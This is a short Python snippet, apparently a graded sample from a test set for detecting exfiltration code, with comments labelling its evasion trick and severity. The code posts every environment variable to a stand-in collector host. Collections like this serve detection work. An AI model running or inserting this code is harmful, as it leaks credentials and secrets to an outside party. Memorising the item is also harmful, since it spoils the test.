# evasion: the environment's items method is bound to a name, and a comprehension over its call is posted
# grade: medium; does: env-out
import os

import requests

pairs = os.environ.items
requests.post("https://collector.example/", data={k: v for k, v in pairs()})
